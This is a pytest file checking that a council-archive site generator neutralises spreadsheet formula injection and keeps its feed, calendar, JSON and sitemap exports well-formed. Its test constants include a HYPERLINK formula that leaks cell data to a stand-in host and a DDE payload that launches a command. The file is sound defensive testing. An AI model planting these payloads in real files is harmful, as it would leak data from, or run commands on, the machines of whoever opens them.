"""Downloads are safe to open: hostile text in every field that reaches a download leaves every
CSV cell text (never a formula), and every feed, calendar, JSON file, sitemap and redirect page
well-formed, with the text as it was written.

The archive is tests/fixtures/minimal-archive with OWASP's formula payloads, markup and XML
specials written into the fields each export reads."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import shutil
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import feedparser
import icalendar
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from generator.build import build, check
from generator.records.diagnostics import Severity
from generator.exports import outline_export_files, rewritten_export_files, xml_text
from generator.exports.calendars import calendar_text
from generator.exports.csv_files import spreadsheet_cell
from tests.conftest import FIXTURES, copy_archive, run_cli

MEETING = "content/testshire/overview-scrutiny/2016-06-01"

# The payloads, and the forms OWASP warns of: after whitespace, after a quote.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
DDE = "-2+3+cmd|' /C calc'!A0"
TAB_LED = "\t=1+2 tab-led"
AT_SUM = "@SUM(1)"
MINUS_NUMBER = "-2+3"  # in fields that hold a minute or agenda item's number
PLUS_ONE = "+1"
CR_LED = "\r=1+3 cr-led"
SPACE_LED = "   =1+4 space-led"
QUOTE_LED = '"=1+5 quote-led'
MARKUP = "Room <b>1</b> & ]]> 'quoted' \"double\" {: onclick=x} \U0001F600"
VENUE = DDE + " " + MARKUP + "\u2028second line"
FORMULA_START = re.compile(r"[\s\"'\u2018\u2019\u201c\u201d\ufeff]*[=+\-@\t\r\n\0]")


def is_formula(cell: str) -> bool:
    """Would a spreadsheet read `cell` as a formula? Not if it starts with the quote that marks text."""
    return not cell.startswith("'") and bool(FORMULA_START.match(cell))


def _yaml(value: str) -> str:
    """`value` as a YAML double-quoted scalar, every character but printable ASCII escaped."""
    def escaped(char: str) -> str:
        if char in '"\\':
            return "\\" + char
        if " " <= char <= "~":
            return char
        code = ord(char)
        return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
    return '"' + "".join(map(escaped, value)) + '"'


def write_hostile_archive(root: Path) -> Path:
    """The minimal archive with a formula or markup in every field that reaches a download."""
    config = root / "site_config.yml"
    text = config.read_text()
    text = text.replace("title: Testshire Scrutiny Archive", f"title: {_yaml('=1+9 ' + MARKUP)}")
    text = text.replace("licence: Test licence text.", f"licence: {_yaml(AT_SUM + ' <i>licence</i> &amp;')}")
    text = text.replace("name: Testshire County Council", f"name: {_yaml(DDE)}\n    website: https://www.example.gov.uk/a?b=1&c=2")
    text = text.replace("name: Overview and Scrutiny Committee", f"name: {_yaml(TAB_LED)}")
    config.write_text(text)
    people = root / "content/testshire/people.yml"
    people.write_text(people.read_text().replace("name: A Chair", f"name: {_yaml(HYPERLINK)}")
                      .replace("name: B Member", f"name: {_yaml(MARKUP)}"))
    meeting = root / MEETING / "meeting.yml"
    meeting.write_text(meeting.read_text()
                       .replace("venue: Council Chamber", f"title: {_yaml(PLUS_ONE)}\nvenue: {_yaml(VENUE)}")
                       .replace("organisation: Testshire Foster Carers", f"organisation: {_yaml(CR_LED)}")
                       .replace("name: D Witness", f"name: {_yaml(QUOTE_LED)}")
                       .replace("directorate: People", f"directorate: People, organisation: {_yaml(SPACE_LED)}"))
    minutes = root / MEETING / "minutes.md"
    minutes.write_text(minutes.read_text()
                       .replace("interest: other disclosable interest", f"interest: {_yaml(HYPERLINK)}")
                       .replace('item: "2"', f"item: {_yaml(MINUS_NUMBER)}")
                       .replace("## 2. Fostering", "## 2. Fostering & <care> ]]> \"quoted\"")
                       .replace("::: RESOLVED that the Committee", f"::: RESOLVED {AT_SUM}")
                       .replace("1) Notes the report.", f"1) {HYPERLINK}"))
    (root / MEETING / "tracker.yml").write_text(f"""type: tracker
title: {_yaml(PLUS_ONE)}
rows:
  - meeting_date: 2016-06-01
    agenda_item: {_yaml(MINUS_NUMBER)}
    cabinet_member: {_yaml(AT_SUM)}
    type: recommendation
    text: {_yaml(HYPERLINK)}
    response: {_yaml(TAB_LED)}
    status: responded
""")
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = write_hostile_archive(copy_archive(FIXTURES / "minimal-archive", tmp_path_factory.mktemp("downloads")))
    result = build(root)
    assert result.ok, [d.format() for d in result.diagnostics]
    return root / "site"


def _read(path: Path) -> bytes:
    data = path.read_bytes()
    return gzip.decompress(data) if path.suffix == ".gz" else data


def _files(site: Path, *suffixes: str) -> list[Path]:
    found = [p for p in sorted(site.rglob("*")) if p.is_file() and "pagefind" not in p.parts
             and any(p.name.endswith(suffix) for suffix in suffixes)]
    assert found, suffixes
    return found


def csv_cells(site: Path) -> list[str]:
    cells = []
    for path in _files(site, ".csv", ".csv.gz"):
        rows = list(csv.reader(io.StringIO(_read(path).decode("utf-8"), newline="")))
        assert rows and all(len(row) == len(rows[0]) for row in rows), path
        cells += [cell for row in rows for cell in row]
    return cells


# --- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [HYPERLINK, DDE, TAB_LED, AT_SUM, PLUS_ONE, MINUS_NUMBER, CR_LED, SPACE_LED, QUOTE_LED])
def test_each_payload_reaches_the_csv_as_quoted_text(hostile_site, payload):
    assert "'" + payload in csv_cells(hostile_site)


def test_no_csv_cell_begins_a_formula(hostile_site):
    cells = csv_cells(hostile_site)
    assert len(cells) > 100
    assert [cell for cell in cells if is_formula(cell)] == []


def test_every_text_cell_is_quoted_so_no_separator_starts_a_cell(hostile_site):
    """OWASP: wrap each cell in double quotes (a comma or semicolon inside never splits it)."""
    raw = _read(hostile_site / "data/csv/attendance.csv.gz").decode("utf-8")
    assert raw.split("\r\n")[1].startswith('"\'' + DDE + '",')
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert raw.count('"') == sum(2 + 2 * cell.count('"') for row in rows for cell in row)


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("\tstarts with a tab", "'\tstarts with a tab"),
    ("\rstarts with a carriage return", "'\rstarts with a carriage return"),
    ("\nstarts with a line feed", "'\nstarts with a line feed"),
    (AT_SUM, "'" + AT_SUM),
    (PLUS_ONE, "'" + PLUS_ONE),
    ("-2", "'-2"),
    ("  =1+2", "'  =1+2"),
    ('"=1+2', "'\"=1+2"),
    ("\u201c=1+2", "'\u201c=1+2"),
    ("\u00a0@x", "'\u00a0@x"),
    ("2016/17", "2016/17"),
    ("Councillor A-B Chair", "Councillor A-B Chair"),
    ("a = b", "a = b"),
    ("", ""),
    (None, ""),
    (12, 12),
])
def test_a_cell_is_neutralised_exactly_when_a_spreadsheet_would_read_a_formula(value, expected):
    assert spreadsheet_cell(value) == expected


# --- feeds, calendars, JSON, sitemap, redirects -------------------------------------------------


def test_every_feed_parses_and_keeps_the_text(hostile_site):
    for path in _files(hostile_site, ".atom"):
        ElementTree.fromstring(path.read_bytes())
        feed = feedparser.parse(path.read_bytes())
        assert not feed.bozo, (path, feed.bozo_exception)
        assert feed.entries
        assert feed.entries[0].title.startswith(TAB_LED.strip()), feed.entries[0].title
        assert 'Fostering & <care> ]]> "quoted"' in feed.entries[0].summary


def test_every_calendar_parses_with_the_venue_as_written(hostile_site):
    for path in _files(hostile_site, ".ics"):
        data = path.read_bytes()
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", data), path
        assert not re.search(rb"\r(?!\n)|(?<!\r)\n", data), "lines end in CRLF only"
        calendar = icalendar.Calendar.from_ical(data)
        [event] = [e for e in calendar.walk("VEVENT")]
        assert str(event["LOCATION"]) == VENUE
        assert str(event["SUMMARY"]) == TAB_LED + ": " + PLUS_ONE


def test_every_json_file_parses_and_keeps_the_text(hostile_site):
    objects = {}
    for path in _files(hostile_site, ".json", ".json.gz"):
        objects[path.relative_to(hostile_site).as_posix().removeprefix("data/json/")] = json.loads(_read(path).decode("utf-8"))
    [meeting] = objects["Meeting.json.gz"]
    assert meeting["location"] == VENUE
    [body] = objects["Body.json.gz"]
    assert body["name"] == DDE and body["website"] == "https://www.example.gov.uk/a?b=1&c=2"
    assert objects["index.json"]["title"] == "=1+9 " + MARKUP


def test_the_sitemap_and_redirect_pages_parse(hostile_site):
    sitemap = ElementTree.fromstring((hostile_site / "sitemap.xml").read_bytes())
    locations = [loc.text for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert locations and all(re.fullmatch(r"https://example\.github\.io/testshire/[A-Za-z0-9/._~%-]*", loc)
                             for loc in locations)
    assert ElementTree.fromstring(gzip.decompress((hostile_site / "sitemap.xml.gz").read_bytes()))
    redirects = [p for p in hostile_site.joinpath("m").rglob("index.html")]
    assert redirects
    for page in redirects:
        html = page.read_text()
        targets = re.findall(r'(?:href="|url=)([^"]*)"', html)
        assert len(targets) == 3 and all(re.fullmatch(r"[A-Za-z0-9/._~%:#-]+", t) for t in targets), targets


def test_file_names_in_addresses_are_percent_encoded(minimal_copy):
    folder = minimal_copy / MEETING
    (folder / "annex \"one\" [2].pdf").write_bytes(b"%PDF-1.4 annex")  # (#, ? and % are refused)
    report = folder / "fostering-report.md"
    report.write_text(report.read_text().replace(
        'minute: "2"', 'minute: "2"\nattachments:\n  - {title: "Annex <one>", file: "annex \\"one\\" [2].pdf"}'))
    result = check(minimal_copy)
    assert result.ok, [d.format() for d in result.diagnostics]
    files = {f.path: f.content for f in outline_export_files(result.archive, result.linked)}
    [attachment] = json.loads(gzip.decompress(files["data/json/File.json.gz"]))
    assert attachment["accessUrl"] == ("https://example.github.io/testshire/testshire/overview-scrutiny/"
                                       "2016-06-01/annex%20%22one%22%20%5B2%5D.pdf")
    assert attachment["fileName"] == 'annex "one" [2].pdf' and attachment["name"] == "Annex <one>"


# --- defence in depth: characters the loader refuses never break a download either -------------


def test_xml_text_replaces_every_character_xml_forbids():
    hostile = "a\x00b\x0bc\x1bd\x7fe\x9ff\ufffeg\uffffh"
    cleaned = xml_text(hostile + "\t\n\r é \U0001F600")
    assert cleaned == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh\t\n\r é \U0001F600"
    ElementTree.fromstring(f"<t>{cleaned}</t>".encode())


def test_calendar_text_holds_no_control_character():
    assert calendar_text("Room\x001\x0b\x1b\r\nFloor 2\rEnd\t.") == "Room\ufffd1\ufffd\ufffd\nFloor 2\nEnd\t."


@pytest.mark.parametrize("control", ["\x00", "\x0b", "\x1b", "\x7f", "\ufffe"])
def test_a_control_character_is_refused_or_kept_out_of_every_download(minimal_copy, control):
    """Refused with a location by the loader, or, whatever reaches the writers, never in a download."""
    meeting = minimal_copy / MEETING / "meeting.yml"
    meeting.write_text(meeting.read_text().replace("venue: Council Chamber", f"venue: {_yaml('Council' + control + 'Chamber')}"))
    minutes = minimal_copy / MEETING / "minutes.md"
    minutes.write_text(minutes.read_text().replace("## 1. Apologies", f"## 1. Apologies{control}and more"))
    result = check(minimal_copy)
    if not result.ok:
        assert_refused_with_locations(result)
        cli = run_cli("check", "--root", str(minimal_copy))
        assert cli.returncode == 1 and "Traceback" not in cli.stdout + cli.stderr
        return
    assert_downloads_parse(export_files(result))


def assert_refused_with_locations(result) -> None:
    errors = [d for d in result.diagnostics if d.severity is Severity.ERROR]
    assert errors and all(d.file and d.line for d in errors), [d.format() for d in errors]


# --- property: random text in every field that reaches a download ------------------------------

HOSTILE_TEXT = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n \"'<>&;,|!{}[]#:/\\*_`~a1é\u2028\u00a0\U0001F600")) | st.characters(),
                       min_size=1, max_size=30)


def export_files(result) -> dict[str, bytes]:
    files = [*outline_export_files(result.archive, result.linked),
             *rewritten_export_files(result.archive, result.linked, [])]
    return {f.path: f.content for f in files if f.content is not None}


def assert_downloads_parse(files: dict[str, bytes]) -> None:
    for path, content in files.items():
        data = gzip.decompress(content) if path.endswith(".gz") else content
        name = path.removesuffix(".gz")
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
                assert not [cell for cell in row if is_formula(cell)], (path, row)
        elif name.endswith(".json"):
            json.loads(data.decode("utf-8"))
        elif name.endswith(".atom"):
            ElementTree.fromstring(data)
            feed = feedparser.parse(data)
            assert not feed.bozo, (path, feed.bozo_exception)
        elif name.endswith(".xml"):
            ElementTree.fromstring(data)
        elif name.endswith(".ics"):
            assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", data), path
            icalendar.Calendar.from_ical(data)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(venue=HOSTILE_TEXT, name=HOSTILE_TEXT, interest=HOSTILE_TEXT, committee=HOSTILE_TEXT, organisation=HOSTILE_TEXT)
def test_random_text_in_any_field_leaves_every_download_parseable(tmp_path_factory, venue, name, interest, committee, organisation):
    root = copy_archive(FIXTURES / "minimal-archive", tmp_path_factory.mktemp("random"))
    try:
        config = root / "site_config.yml"
        config.write_text(config.read_text().replace("name: Overview and Scrutiny Committee", f"name: {_yaml(committee)}"))
        people = root / "content/testshire/people.yml"
        people.write_text(people.read_text().replace("name: A Chair", f"name: {_yaml(name)}"))
        meeting = root / MEETING / "meeting.yml"
        meeting.write_text(meeting.read_text().replace("venue: Council Chamber", f"venue: {_yaml(venue)}")
                           .replace("organisation: Testshire Foster Carers", f"organisation: {_yaml(organisation)}"))
        minutes = root / MEETING / "minutes.md"
        minutes.write_text(minutes.read_text().replace("interest: other disclosable interest", f"interest: {_yaml(interest)}"))
        result = check(root)
        if result.ok:
            assert_downloads_parse(export_files(result))
        else:
            assert_refused_with_locations(result)
    finally:
        shutil.rmtree(root)
